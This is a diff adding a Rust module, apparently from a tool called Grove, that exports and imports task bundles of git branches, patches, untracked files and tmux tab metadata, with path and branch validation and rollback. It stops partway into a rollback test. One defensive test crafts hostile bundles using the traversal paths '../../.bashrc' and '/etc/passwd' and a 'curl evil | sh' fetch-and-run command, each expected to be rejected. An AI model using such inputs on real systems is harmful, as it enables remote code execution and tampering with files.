@@ -0,0 +1,1184 @@
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Component, Path, PathBuf};
+use std::process::Command;
+use std::time::{SystemTime, UNIX_EPOCH};
+
+use serde::{Deserialize, Serialize};
+
+use crate::application::task_lifecycle::{
+    create_task_worktree_for_branch, task_lifecycle_error_message, task_name_is_valid,
+    write_task_manifest,
+};
+use crate::application::workspace_lifecycle::{
+    GitCommandRunner, SetupCommandRunner, SetupScriptRunner, WORKSPACE_INIT_COMMAND_FILE,
+    WORKSPACE_LAUNCH_MARKER_FILES, read_workspace_launch_marker, write_workspace_base_marker,
+    write_workspace_launch_marker,
+};
+use crate::domain::{Task, Worktree};
+use crate::infrastructure::config::RepositoryConfig;
+use crate::infrastructure::process::stderr_or_status;
+use crate::infrastructure::task_manifest::{decode_task_manifest, encode_task_manifest};
+
+const BUNDLE_FORMAT_VERSION: u32 = 1;
+const BUNDLE_MANIFEST_FILE: &str = "bundle.toml";
+const BUNDLE_TASK_FILE: &str = "task.toml";
+const BUNDLE_WORKTREES_DIR: &str = "worktrees";
+const BRANCH_BUNDLE_FILE: &str = "branch.bundle";
+const CHANGES_PATCH_FILE: &str = "changes.patch";
+const UNTRACKED_DIR: &str = "untracked";
+const TMUX_TAB_FORMAT: &str = "#{session_name}\t#{@grove_workspace_path}\t#{@grove_tab_kind}\t#{@grove_tab_title}\t#{@grove_tab_agent}\t#{@grove_tab_order}";
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+struct TaskBundleManifest {
+    version: u32,
+    worktrees: Vec<BundledWorktree>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+struct BundledWorktree {
+    repository_name: String,
+    remote_url: Option<String>,
+    branch: String,
+    head: String,
+    has_changes: bool,
+    #[serde(default)]
+    untracked: Vec<String>,
+    #[serde(default)]
+    metadata: BTreeMap<String, String>,
+    #[serde(default)]
+    tabs: Vec<BundledTab>,
+}
+
+/// A tmux-backed workspace tab as the TUI tags it with `@grove_tab_*`
+/// options, recorded so the importing side knows which sessions to reopen.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct BundledTab {
+    pub session_name: String,
+    pub kind: String,
+    pub title: String,
+    pub agent: Option<String>,
+    pub order: u64,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct TaskExportResult {
+    pub worktrees: usize,
+    pub patches: usize,
+    pub untracked_files: usize,
+    pub tabs: usize,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct TaskImportResult {
+    pub task: Task,
+    pub tabs: Vec<(String, BundledTab)>,
+    pub warnings: Vec<String>,
+}
+
+pub fn export_task(task: &Task, output_path: &Path) -> Result<TaskExportResult, String> {
+    if task
+        .worktrees
+        .iter()
+        .any(|worktree| worktree.is_main_checkout())
+    {
+        return Err(format!(
+            "task `{}` is a base task, only task worktrees can be exported",
+            task.slug
+        ));
+    }
+
+    let staging = StagingDir::new("export")?;
+    let tab_rows = list_tmux_tabs();
+    let mut result = TaskExportResult {
+        worktrees: 0,
+        patches: 0,
+        untracked_files: 0,
+        tabs: 0,
+    };
+    let mut worktrees = Vec::new();
+    for worktree in &task.worktrees {
+        let bundled = stage_worktree(staging.path.as_path(), worktree, tab_rows.as_slice())?;
+        result.worktrees += 1;
+        result.patches += usize::from(bundled.has_changes);
+        result.untracked_files += bundled.untracked.len();
+        result.tabs += bundled.tabs.len();
+        worktrees.push(bundled);
+    }
+
+    fs::write(
+        staging.path.join(BUNDLE_TASK_FILE),
+        encode_task_manifest(task)?,
+    )
+    .map_err(|error| format!("bundle task manifest write failed: {error}"))?;
+    let manifest = TaskBundleManifest {
+        version: BUNDLE_FORMAT_VERSION,
+        worktrees,
+    };
+    let encoded = toml::to_string_pretty(&manifest)
+        .map_err(|error| format!("bundle manifest encode failed: {error}"))?;
+    fs::write(staging.path.join(BUNDLE_MANIFEST_FILE), encoded)
+        .map_err(|error| format!("bundle manifest write failed: {error}"))?;
+
+    let output_path = absolute_path(output_path)?;
+    run_command(
+        Command::new("tar")
+            .arg("-cf")
+            .arg(&output_path)
+            .arg("-C")
+            .arg(&staging.path)
+            .arg("."),
+        "tar",
+    )?;
+    Ok(result)
+}
+
+fn stage_worktree(
+    staging: &Path,
+    worktree: &Worktree,
+    tab_rows: &[(PathBuf, BundledTab)],
+) -> Result<BundledWorktree, String> {
+    let worktree_dir = staging
+        .join(BUNDLE_WORKTREES_DIR)
+        .join(&worktree.repository_name);
+    fs::create_dir_all(&worktree_dir)
+        .map_err(|error| format!("bundle directory create failed: {error}"))?;
+
+    let path = worktree.path.as_path();
+    let head = git_stdout(path, &["rev-parse", "HEAD"])?.trim().to_string();
+    let remote_url = git_stdout(path, &["remote", "get-url", "origin"])
+        .ok()
+        .map(|url| url.trim().to_string())
+        .filter(|url| !url.is_empty());
+    let bundle_path = worktree_dir.join(BRANCH_BUNDLE_FILE);
+    run_command(
+        Command::new("git")
+            .current_dir(path)
+            .args(["bundle", "create"])
+            .arg(&bundle_path)
+            .arg(&worktree.branch),
+        "git bundle",
+    )?;
+
+    let patch = git_stdout(path, &["diff", "--binary", "HEAD"])?;
+    let has_changes = !patch.is_empty();
+    if has_changes {
+        fs::write(worktree_dir.join(CHANGES_PATCH_FILE), patch)
+            .map_err(|error| format!("bundle patch write failed: {error}"))?;
+    }
+
+    let untracked = git_stdout(path, &["ls-files", "--others", "--exclude-standard", "-z"])?
+        .split('\0')
+        .filter(|entry| !entry.is_empty() && !entry.starts_with(".grove/"))
+        .map(str::to_string)
+        .collect::<Vec<String>>();
+    for relative in &untracked {
+        copy_file(
+            path.join(relative).as_path(),
+            worktree_dir.join(UNTRACKED_DIR).join(relative).as_path(),
+        )?;
+    }
+
+    let metadata = WORKSPACE_LAUNCH_MARKER_FILES
+        .iter()
+        .filter_map(|file| {
+            read_workspace_launch_marker(path, file).map(|content| ((*file).to_string(), content))
+        })
+        .collect::<BTreeMap<String, String>>();
+    let tabs = tab_rows
+        .iter()
+        .filter(|(workspace_path, _)| workspace_path == path)
+        .map(|(_, tab)| tab.clone())
+        .collect();
+
+    Ok(BundledWorktree {
+        repository_name: worktree.repository_name.clone(),
+        remote_url,
+        branch: worktree.branch.clone(),
+        head,
+        has_changes,
+        untracked,
+        metadata,
+        tabs,
+    })
+}
+
+/// Recreates an exported task under `tasks_root`. Each bundled worktree is
+/// matched to a configured repository by `origin` URL, its branch is fetched
+/// from the git bundle, and uncommitted work is replayed on top.
+pub fn import_task_in_root(
+    tasks_root: &Path,
+    bundle_path: &Path,
+    repositories: &[RepositoryConfig],
+    git_runner: &impl GitCommandRunner,
+    setup_script_runner: &impl SetupScriptRunner,
+    setup_command_runner: &impl SetupCommandRunner,
+) -> Result<TaskImportResult, String> {
+    let staging = StagingDir::new("import")?;
+    run_command(
+        Command::new("tar")
+            .arg("-xf")
+            .arg(bundle_path)
+            .arg("-C")
+            .arg(&staging.path),
+        "tar",
+    )?;
+
+    let raw_manifest = fs::read_to_string(staging.path.join(BUNDLE_MANIFEST_FILE))
+        .map_err(|error| format!("bundle manifest read failed: {error}"))?;
+    let manifest = toml::from_str::<TaskBundleManifest>(&raw_manifest)
+        .map_err(|error| format!("bundle manifest parse failed: {error}"))?;
+    if manifest.version != BUNDLE_FORMAT_VERSION {
+        return Err(format!(
+            "unsupported bundle version {} (expected {BUNDLE_FORMAT_VERSION})",
+            manifest.version
+        ));
+    }
+    let raw_task = fs::read_to_string(staging.path.join(BUNDLE_TASK_FILE))
+        .map_err(|error| format!("bundle task manifest read failed: {error}"))?;
+    let exported = decode_task_manifest(&raw_task)?;
+    validate_bundle(&manifest, &exported)?;
+
+    let task_root = tasks_root.join(&exported.slug);
+    if task_root.exists() {
+        return Err(format!("task `{}` already exists", exported.slug));
+    }
+    let targets = manifest
+        .worktrees
+        .iter()
+        .map(|bundled| {
+            matching_repository(bundled, repositories).map(|repository| (bundled, repository))
+        })
+        .collect::<Result<Vec<(&BundledWorktree, &RepositoryConfig)>, String>>()?;
+
+    let mut rollback = ImportRollback::default();
+    let result = import_bundled_worktrees(
+        task_root.as_path(),
+        staging.path.as_path(),
+        exported,
+        targets.as_slice(),
+        git_runner,
+        setup_script_runner,
+        setup_command_runner,
+        &mut rollback,
+    );
+    if result.is_err() {
+        rollback.undo(task_root.as_path(), git_runner);
+    }
+    result
+}
+
+#[allow(clippy::too_many_arguments)]
+fn import_bundled_worktrees(
+    task_root: &Path,
+    staging: &Path,
+    exported: Task,
+    targets: &[(&BundledWorktree, &RepositoryConfig)],
+    git_runner: &impl GitCommandRunner,
+    setup_script_runner: &impl SetupScriptRunner,
+    setup_command_runner: &impl SetupCommandRunner,
+    rollback: &mut ImportRollback,
+) -> Result<TaskImportResult, String> {
+    let mut worktrees = Vec::new();
+    let mut tabs = Vec::new();
+    let mut warnings = Vec::new();
+    for (bundled, repository) in targets.iter().copied() {
+        let source = exported
+            .worktrees
+            .iter()
+            .find(|worktree| worktree.repository_name == bundled.repository_name);
+        let bundle_dir = staging
+            .join(BUNDLE_WORKTREES_DIR)
+            .join(&bundled.repository_name);
+        let branch_ref = format!("refs/heads/{}", bundled.branch);
+        let previous_oid = git_stdout(
+            repository.path.as_path(),
+            &["rev-parse", "--verify", "--quiet", branch_ref.as_str()],
+        )
+        .ok()
+        .map(|oid| oid.trim().to_string());
+        rollback.repositories.push(repository.path.clone());
+        git_runner
+            .run(
+                repository.path.as_path(),
+                &[
+                    "fetch".to_string(),
+                    bundle_dir
+                        .join(BRANCH_BUNDLE_FILE)
+                        .to_string_lossy()
+                        .into_owned(),
+                    format!("{branch_ref}:{branch_ref}"),
+                ],
+            )
+            .map_err(|error| {
+                format!(
+                    "fetch {} into {} failed: {error}",
+                    bundled.branch, repository.name
+                )
+            })?;
+        rollback.fetched_branches.push(FetchedBranch {
+            repository: repository.path.clone(),
+            branch: bundled.branch.clone(),
+            previous_oid,
+        });
+
+        let agent = source.map_or(crate::domain::AgentType::Codex, |worktree| worktree.agent);
+        let (mut worktree, mut repository_warnings) = create_task_worktree_for_branch(
+            task_root,
+            bundled.branch.as_str(),
+            repository,
+            agent,
+            git_runner,
+            setup_script_runner,
+            setup_command_runner,
+        )
+        .map_err(|error| task_lifecycle_error_message(&error))?;
+        warnings.append(&mut repository_warnings);
+        if let Some(base_branch) = source.and_then(|worktree| worktree.base_branch.clone()) {
+            write_workspace_base_marker(&worktree.path, base_branch.as_str())
+                .map_err(|error| format!("base marker write failed: {error:?}"))?;
+            worktree.base_branch = Some(base_branch);
+        }
+        if let Some(source) = source {
+            worktree.pull_requests = source.pull_requests.clone();
+        }
+
+        restore_worktree_changes(&worktree, bundled, bundle_dir.as_path(), git_runner)
+            .unwrap_or_else(|warning| warnings.push(warning));
+        for (file, content) in &bundled.metadata {
+            write_workspace_launch_marker(&worktree.path, file, Some(content))
+                .map_err(|error| format!("worktree metadata write failed: {error}"))?;
+            if file == WORKSPACE_INIT_COMMAND_FILE {
+                warnings.push(format!(
+                    "{}: the bundle sets an agent init command, review {} before starting an agent",
+                    bundled.repository_name,
+                    worktree.path.join(file).display()
+                ));
+            }
+        }
+        tabs.extend(
+            bundled
+                .tabs
+                .iter()
+                .map(|tab| (bundled.repository_name.clone(), tab.clone())),
+        );
+        worktrees.push(worktree);
+    }
+
+    let task = Task::try_new(
+        exported.name,
+        exported.slug,
+        task_root.to_path_buf(),
+        exported.branch,
+        worktrees,
+    )
+    .map_err(|error| format!("task invalid: {error:?}"))?
+    .with_tags(exported.tags)
+    .with_notes(exported.notes);
+    write_task_manifest(task_root, &task).map_err(|error| task_lifecycle_error_message(&error))?;
+
+    Ok(TaskImportResult {
+        task,
+        tabs,
+        warnings,
+    })
+}
+
+/// What a failed import has to undo so it can simply be retried.
+#[derive(Default)]
+struct ImportRollback {
+    repositories: Vec<PathBuf>,
+    fetched_branches: Vec<FetchedBranch>,
+}
+
+/// A branch the import fetched into, with where it pointed beforehand so a
+/// fast-forwarded existing branch can be put back.
+struct FetchedBranch {
+    repository: PathBuf,
+    branch: String,
+    previous_oid: Option<String>,
+}
+
+impl ImportRollback {
+    fn undo(&self, task_root: &Path, git_runner: &impl GitCommandRunner) {
+        let _ = fs::remove_dir_all(task_root);
+        for repository in &self.repositories {
+            let _ = git_runner.run(
+                repository.as_path(),
+                &["worktree".to_string(), "prune".to_string()],
+            );
+        }
+        for fetched in &self.fetched_branches {
+            let args = match fetched.previous_oid.as_ref() {
+                Some(oid) => vec![
+                    "update-ref".to_string(),
+                    format!("refs/heads/{}", fetched.branch),
+                    oid.clone(),
+                ],
+                None => vec![
+                    "branch".to_string(),
+                    "-D".to_string(),
+                    fetched.branch.clone(),
+                ],
+            };
+            let _ = git_runner.run(fetched.repository.as_path(), args.as_slice());
+        }
+    }
+}
+
+/// Bundles come from another machine, so every path in them is checked
+/// before anything is joined onto the tasks root or a worktree.
+fn validate_bundle(manifest: &TaskBundleManifest, exported: &Task) -> Result<(), String> {
+    if exported.slug.is_empty() || !task_name_is_valid(exported.slug.as_str()) {
+        return Err(format!(
+            "bundle task slug `{}` is not a valid task name",
+            exported.slug
+        ));
+    }
+    for bundled in &manifest.worktrees {
+        if !is_bundle_relative_path(bundled.repository_name.as_str())
+            || Path::new(&bundled.repository_name).components().count() != 1
+        {
+            return Err(format!(
+                "bundle repository name `{}` is not a plain directory name",
+                bundled.repository_name
+            ));
+        }
+        if !branch_name_is_safe(bundled.branch.as_str()) {
+            return Err(format!(
+                "bundle branch `{}` for {} is not a valid branch name",
+                bundled.branch, bundled.repository_name
+            ));
+        }
+        if let Some(relative) = bundled
+            .untracked
+            .iter()
+            .find(|relative| !is_bundle_relative_path(relative))
+        {
+            return Err(format!(
+                "bundle file `{relative}` for {} points outside the worktree",
+                bundled.repository_name
+            ));
+        }
+        if let Some(file) = bundled
+            .metadata
+            .keys()
+            .find(|file| !WORKSPACE_LAUNCH_MARKER_FILES.contains(&file.as_str()))
+        {
+            return Err(format!(
+                "bundle metadata `{file}` for {} is not a Grove workspace file",
+                bundled.repository_name
+            ));
+        }
+    }
+    Ok(())
+}
+
+fn is_bundle_relative_path(path: &str) -> bool {
+    let path = Path::new(path);
+    !path.as_os_str().is_empty()
+        && path
+            .components()
+            .all(|component| matches!(component, Component::Normal(_)))
+}
+
+fn branch_name_is_safe(branch: &str) -> bool {
+    !branch.is_empty()
+        && !branch.starts_with('-')
+        && !branch.contains("..")
+        && !branch.chars().any(|character| {
+            character.is_whitespace()
+                || character.is_control()
+                || matches!(character, ':' | '~' | '^' | '?' | '*' | '[' | '\\')
+        })
+}
+
+fn restore_worktree_changes(
+    worktree: &Worktree,
+    bundled: &BundledWorktree,
+    bundle_dir: &Path,
+    git_runner: &impl GitCommandRunner,
+) -> Result<(), String> {
+    let head = git_stdout(worktree.path.as_path(), &["rev-parse", "HEAD"])?;
+    if head.trim() != bundled.head {
+        return Err(format!(
+            "{} is not at the exported commit, uncommitted changes were not restored",
+            bundled.repository_name
+        ));
+    }
+    if bundled.has_changes {
+        git_runner
+            .run(
+                worktree.path.as_path(),
+                &[
+                    "apply".to_string(),
+                    "--binary".to_string(),
+                    bundle_dir
+                        .join(CHANGES_PATCH_FILE)
+                        .to_string_lossy()
+                        .into_owned(),
+                ],
+            )
+            .map_err(|error| {
+                format!(
+                    "uncommitted changes for {} did not apply: {error}",
+                    bundled.repository_name
+                )
+            })?;
+    }
+    for relative in &bundled.untracked {
+        copy_file(
+            bundle_dir.join(UNTRACKED_DIR).join(relative).as_path(),
+            worktree.path.join(relative).as_path(),
+        )?;
+    }
+    Ok(())
+}
+
+fn matching_repository<'a>(
+    bundled: &BundledWorktree,
+    repositories: &'a [RepositoryConfig],
+) -> Result<&'a RepositoryConfig, String> {
+    let Some(remote_url) = bundled.remote_url.as_deref() else {
+        return repositories
+            .iter()
+            .find(|repository| repository.name == bundled.repository_name)
+            .ok_or_else(|| {
+                format!(
+                    "no configured repository named `{}` (the export had no origin remote)",
+                    bundled.repository_name
+                )
+            });
+    };
+
+    let wanted = normalize_remote_url(remote_url);
+    repositories
+        .iter()
+        .find(|repository| {
+            git_stdout(repository.path.as_path(), &["remote", "get-url", "origin"])
+                .is_ok_and(|url| normalize_remote_url(url.as_str()) == wanted)
+        })
+        .ok_or_else(|| format!("no configured repository has origin `{remote_url}`"))
+}
+
+/// Reduces SSH and HTTPS spellings of the same remote to `host/owner/repo`,
+/// so a laptop cloned over SSH matches a dev box cloned over HTTPS.
+fn normalize_remote_url(url: &str) -> String {
+    let mut normalized = url.trim().trim_end_matches('/').to_ascii_lowercase();
+    for scheme in ["https://", "http://", "ssh://", "git://", "git+ssh://"] {
+        if let Some(rest) = normalized.strip_prefix(scheme) {
+            normalized = rest.to_string();
+            break;
+        }
+    }
+    if let Some((user, rest)) = normalized.split_once('@')
+        && !user.contains('/')
+    {
+        normalized = rest.to_string();
+    }
+    if let Some((host, path)) = normalized.split_once(':')
+        && !path.starts_with('/')
+        && !path
+            .chars()
+            .next()
+            .is_some_and(|first| first.is_ascii_digit())
+    {
+        normalized = format!("{host}/{path}");
+    }
+    normalized
+        .trim_end_matches(".git")
+        .trim_end_matches('/')
+        .to_string()
+}
+
+fn list_tmux_tabs() -> Vec<(PathBuf, BundledTab)> {
+    let Ok(output) = Command::new("tmux")
+        .args(["list-sessions", "-F", TMUX_TAB_FORMAT])
+        .output()
+    else {
+        return Vec::new();
+    };
+    if !output.status.success() {
+        return Vec::new();
+    }
+    String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .filter_map(parse_tmux_tab_row)
+        .collect()
+}
+
+fn parse_tmux_tab_row(row: &str) -> Option<(PathBuf, BundledTab)> {
+    let mut fields = row.split('\t');
+    let session_name = fields.next()?.trim();
+    let workspace_path = fields.next()?.trim();
+    let kind = fields.next()?.trim();
+    let title = fields.next()?.trim();
+    let agent = fields.next()?.trim();
+    let order = fields.nth(1)?.trim();
+    if session_name.is_empty() || workspace_path.is_empty() || kind.is_empty() {
+        return None;
+    }
+    Some((
+        PathBuf::from(workspace_path),
+        BundledTab {
+            session_name: session_name.to_string(),
+            kind: kind.to_string(),
+            title: title.to_string(),
+            agent: (!agent.is_empty()).then(|| agent.to_string()),
+            order: order.parse().unwrap_or_default(),
+        },
+    ))
+}
+
+fn git_stdout(repo_root: &Path, args: &[&str]) -> Result<String, String> {
+    let output = Command::new("git")
+        .current_dir(repo_root)
+        .args(args)
+        .output()
+        .map_err(|error| format!("git {} failed: {error}", args.join(" ")))?;
+    if !output.status.success() {
+        return Err(format!(
+            "git {} failed: {}",
+            args.join(" "),
+            stderr_or_status(&output)
+        ));
+    }
+    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
+}
+
+fn run_command(command: &mut Command, label: &str) -> Result<(), String> {
+    let output = command
+        .output()
+        .map_err(|error| format!("{label} failed: {error}"))?;
+    if !output.status.success() {
+        return Err(format!("{label} failed: {}", stderr_or_status(&output)));
+    }
+    Ok(())
+}
+
+fn copy_file(from: &Path, to: &Path) -> Result<(), String> {
+    if let Some(parent) = to.parent() {
+        fs::create_dir_all(parent)
+            .map_err(|error| format!("copy {} failed: {error}", from.display()))?;
+    }
+    fs::copy(from, to)
+        .map(|_| ())
+        .map_err(|error| format!("copy {} failed: {error}", from.display()))
+}
+
+fn absolute_path(path: &Path) -> Result<PathBuf, String> {
+    if path.is_absolute() {
+        return Ok(path.to_path_buf());
+    }
+    std::env::current_dir()
+        .map(|current| current.join(path))
+        .map_err(|error| format!("current directory unavailable: {error}"))
+}
+
+struct StagingDir {
+    path: PathBuf,
+}
+
+impl StagingDir {
+    fn new(label: &str) -> Result<Self, String> {
+        let timestamp = SystemTime::now()
+            .duration_since(UNIX_EPOCH)
+            .map(|duration| duration.as_nanos())
+            .unwrap_or_default();
+        let path =
+            std::env::temp_dir().join(format!("grove-{label}-{}-{timestamp}", std::process::id()));
+        fs::create_dir_all(&path)
+            .map_err(|error| format!("staging directory create failed: {error}"))?;
+        Ok(Self { path })
+    }
+}
+
+impl Drop for StagingDir {
+    fn drop(&mut self) {
+        let _ = fs::remove_dir_all(&self.path);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{
+        export_task, git_stdout, import_task_in_root, normalize_remote_url, parse_tmux_tab_row,
+    };
+    use crate::application::workspace_lifecycle::{
+        CommandGitRunner, CommandSetupCommandRunner, CommandSetupScriptRunner,
+    };
+    use crate::domain::{AgentType, Task, WorkspaceStatus, Worktree};
+    use crate::infrastructure::config::{ProjectConfig, ProjectDefaults};
+    use crate::infrastructure::task_manifest::encode_task_manifest;
+    use std::fs;
+    use std::path::{Path, PathBuf};
+    use std::process::Command;
+    use std::time::{Duration, SystemTime, UNIX_EPOCH};
+
+    struct TestDir {
+        path: PathBuf,
+    }
+
+    impl TestDir {
+        fn new(label: &str) -> Self {
+            let timestamp = SystemTime::now()
+                .duration_since(UNIX_EPOCH)
+                .unwrap_or(Duration::from_secs(0))
+                .as_nanos();
+            let path = std::env::temp_dir().join(format!(
+                "grove-transfer-{label}-{}-{timestamp}",
+                std::process::id()
+            ));
+            fs::create_dir_all(&path).expect("test dir should be created");
+            Self { path }
+        }
+    }
+
+    impl Drop for TestDir {
+        fn drop(&mut self) {
+            let _ = fs::remove_dir_all(&self.path);
+        }
+    }
+
+    fn run_git(repo_root: &Path, args: &[&str]) {
+        let output = Command::new("git")
+            .current_dir(repo_root)
+            .args(args)
+            .output()
+            .expect("git should run");
+        assert!(
+            output.status.success(),
+            "git {} failed: {}",
+            args.join(" "),
+            String::from_utf8_lossy(&output.stderr)
+        );
+    }
+
+    fn init_git_repo(repo_root: &Path, remote_url: &str) {
+        fs::create_dir_all(repo_root).expect("repo dir should be created");
+        run_git(repo_root, &["init", "-b", "main"]);
+        run_git(
+            repo_root,
+            &["config", "user.email", "grove-tests@example.com"],
+        );
+        run_git(repo_root, &["config", "user.name", "Grove Tests"]);
+        run_git(repo_root, &["remote", "add", "origin", remote_url]);
+        fs::write(repo_root.join("README.md"), "hello\n").expect("README should be writable");
+        run_git(repo_root, &["add", "README.md"]);
+        run_git(repo_root, &["commit", "-m", "initial commit"]);
+    }
+
+    fn project(path: PathBuf) -> ProjectConfig {
+        named_project("api", path)
+    }
+
+    fn named_project(name: &str, path: PathBuf) -> ProjectConfig {
+        ProjectConfig {
+            name: name.to_string(),
+            path,
+            defaults: ProjectDefaults {
+                base_branch: "main".to_string(),
+                ..ProjectDefaults::default()
+            },
+        }
+    }
+
+    fn git_succeeds(repo_root: &Path, args: &[&str]) -> bool {
+        Command::new("git")
+            .current_dir(repo_root)
+            .args(args)
+            .output()
+            .is_ok_and(|output| output.status.success())
+    }
+
+    fn task_worktree(repo: &Path, path: &Path, name: &str) -> Worktree {
+        Worktree::try_new(
+            name.to_string(),
+            repo.to_path_buf(),
+            path.to_path_buf(),
+            "feature-a".to_string(),
+            AgentType::Claude,
+            WorkspaceStatus::Idle,
+        )
+        .expect("worktree should be valid")
+    }
+
+    fn write_crafted_bundle(dir: &Path, task: &Task, manifest: &str) -> PathBuf {
+        let staging = dir.join("crafted");
+        fs::create_dir_all(&staging).expect("staging dir should exist");
+        fs::write(
+            staging.join("task.toml"),
+            encode_task_manifest(task).expect("task should encode"),
+        )
+        .expect("task manifest should write");
+        fs::write(staging.join("bundle.toml"), manifest).expect("bundle manifest should write");
+        let bundle_path = dir.join("crafted.tar");
+        let status = Command::new("tar")
+            .arg("-cf")
+            .arg(&bundle_path)
+            .arg("-C")
+            .arg(&staging)
+            .arg(".")
+            .status()
+            .expect("tar should run");
+        assert!(status.success());
+        fs::remove_dir_all(&staging).expect("staging dir should be removed");
+        bundle_path
+    }
+
+    #[test]
+    fn normalize_remote_url_matches_ssh_and_https_spellings() {
+        let expected = "github.com/acme/api";
+        for url in [
+            "git@github.com:acme/api.git",
+            "https://github.com/acme/api",
+            "ssh://git@github.com/acme/api.git",
+            "https://GitHub.com/acme/api.git/",
+        ] {
+            assert_eq!(normalize_remote_url(url), expected, "{url}");
+        }
+        assert_ne!(
+            normalize_remote_url("git@github.com:acme/web.git"),
+            expected
+        );
+    }
+
+    #[test]
+    fn parse_tmux_tab_row_reads_grove_tab_metadata() {
+        let (path, tab) =
+            parse_tmux_tab_row("grove-ws-a-agent-1\t/tasks/a/api\tagent\tClaude\tclaude\t3\t1")
+                .expect("row should parse");
+        assert_eq!(path, PathBuf::from("/tasks/a/api"));
+        assert_eq!(tab.kind, "agent");
+        assert_eq!(tab.agent.as_deref(), Some("claude"));
+        assert_eq!(tab.order, 1);
+        assert!(parse_tmux_tab_row("plain-session\t\t\t\t\t\t").is_none());
+    }
+
+    #[test]
+    fn export_then_import_recreates_branch_and_uncommitted_work() {
+        let dir = TestDir::new("round-trip");
+        let remote = "git@example.com:acme/api.git";
+        let laptop_repo = dir.path.join("laptop/api");
+        init_git_repo(&laptop_repo, remote);
+        let worktree_path = dir.path.join("laptop-tasks/feature-a/api");
+        run_git(
+            &laptop_repo,
+            &[
+                "worktree",
+                "add",
+                "-b",
+                "feature-a",
+                worktree_path.to_string_lossy().as_ref(),
+                "main",
+            ],
+        );
+        fs::write(worktree_path.join("feature.txt"), "committed\n").expect("file should write");
+        run_git(&worktree_path, &["add", "feature.txt"]);
+        run_git(&worktree_path, &["commit", "-m", "add feature"]);
+        fs::write(worktree_path.join("README.md"), "hello\nedited\n").expect("file should write");
+        fs::write(worktree_path.join("notes.txt"), "scratch\n").expect("file should write");
+        fs::create_dir_all(worktree_path.join(".grove")).expect("grove dir should exist");
+        fs::write(worktree_path.join(".grove/prompt"), "finish the feature")
+            .expect("prompt should write");
+
+        let task = Task::try_new(
+            "feature-a".to_string(),
+            "feature-a".to_string(),
+            dir.path.join("laptop-tasks/feature-a"),
+            "feature-a".to_string(),
+            vec![
+                Worktree::try_new(
+                    "api".to_string(),
+                    laptop_repo.clone(),
+                    worktree_path.clone(),
+                    "feature-a".to_string(),
+                    AgentType::Claude,
+                    WorkspaceStatus::Idle,
+                )
+                .expect("worktree should be valid")
+                .with_base_branch(Some("main".to_string())),
+            ],
+        )
+        .expect("task should be valid");
+        let bundle_path = dir.path.join("feature-a.tar");
+        let exported = export_task(&task, &bundle_path).expect("export should succeed");
+        assert_eq!(exported.worktrees, 1);
+        assert_eq!(exported.patches, 1);
+        assert_eq!(exported.untracked_files, 1);
+
+        let devbox_repo = dir.path.join("devbox/api");
+        init_git_repo(&devbox_repo, "https://example.com/acme/api");
+        let devbox_tasks = dir.path.join("devbox-tasks");
+        let imported = import_task_in_root(
+            &devbox_tasks,
+            &bundle_path,
+            &[project(devbox_repo.clone())],
+            &CommandGitRunner,
+            &CommandSetupScriptRunner,
+            &CommandSetupCommandRunner,
+        )
+        .expect("import should succeed");
+
+        assert!(imported.warnings.is_empty(), "{:?}", imported.warnings);
+        let imported_path = devbox_tasks.join("feature-a/api");
+        assert_eq!(imported.task.worktrees[0].path, imported_path);
+        assert_eq!(imported.task.worktrees[0].agent, AgentType::Claude);
+        assert_eq!(
+            fs::read_to_string(imported_path.join("feature.txt")).expect("commit should exist"),
+            "committed\n"
+        );
+        assert_eq!(
+            fs::read_to_string(imported_path.join("README.md")).expect("edit should exist"),
+            "hello\nedited\n"
+        );
+        assert_eq!(
+            fs::read_to_string(imported_path.join("notes.txt")).expect("untracked should exist"),
+            "scratch\n"
+        );
+        assert_eq!(
+            fs::read_to_string(imported_path.join(".grove/prompt")).expect("prompt should exist"),
+            "finish the feature\n"
+        );
+        assert!(devbox_tasks.join("feature-a/.grove/task.toml").exists());
+
+        let again = import_task_in_root(
+            &devbox_tasks,
+            &bundle_path,
+            &[project(devbox_repo)],
+            &CommandGitRunner,
+            &CommandSetupScriptRunner,
+            &CommandSetupCommandRunner,
+        );
+        assert_eq!(
+            again.err(),
+            Some("task `feature-a` already exists".to_string())
+        );
+    }
+
+    #[test]
+    fn import_rejects_bundles_that_escape_the_task_root() {
+        let dir = TestDir::new("escape");
+        let tasks_root = dir.path.join("tasks");
+        let task = |slug: &str| {
+            Task::try_new(
+                "feature-a".to_string(),
+                slug.to_string(),
+                dir.path.join("laptop-tasks").join(slug),
+                "feature-a".to_string(),
+                vec![task_worktree(
+                    &dir.path.join("laptop/api"),
+                    &dir.path.join("laptop-tasks/feature-a/api"),
+                    "api",
+                )],
+            )
+            .expect("task should be valid")
+        };
+        let manifest = |extra: &str| {
+            format!(
+                "version = 1\n\n[[worktrees]]\nrepository_name = \"api\"\nbranch = \"feature-a\"\nhead = \"0000\"\nhas_changes = false\n{extra}"
+            )
+        };
+        let cases = [
+            (task("../escape"), manifest(""), "not a valid task name"),
+            (
+                task("feature-a"),
+                manifest("untracked = [\"../../.bashrc\"]\n"),
+                "points outside the worktree",
+            ),
+            (
+                task("feature-a"),
+                manifest("untracked = [\"/etc/passwd\"]\n"),
+                "points outside the worktree",
+            ),
+            (
+                task("feature-a"),
+                manifest("[worktrees.metadata]\n\".grove/start.sh\" = \"curl evil | sh\"\n"),
+                "not a Grove workspace file",
+            ),
+        ];
+
+        for (task, manifest, expected) in cases {
+            let bundle_path = write_crafted_bundle(&dir.path, &task, manifest.as_str());
+            let error = import_task_in_root(
+                &tasks_root,
+                &bundle_path,
+                &[],
+                &CommandGitRunner,
+                &CommandSetupScriptRunner,
+                &CommandSetupCommandRunner,
+            )
+            .expect_err("crafted bundle should be rejected");
+            assert!(error.contains(expected), "{error}");
+            assert!(!tasks_root.exists());
+            assert!(!dir.path.join("escape").exists());
+        }
+    }
+
+    #[test]
+    fn failed_import_rolls_back_created_worktrees_and_branches() {
+        let dir = TestDir::new("rollback");
+        let laptop_api = dir.path.join("laptop/api");
+        let laptop_web = dir.path.join("laptop/web");
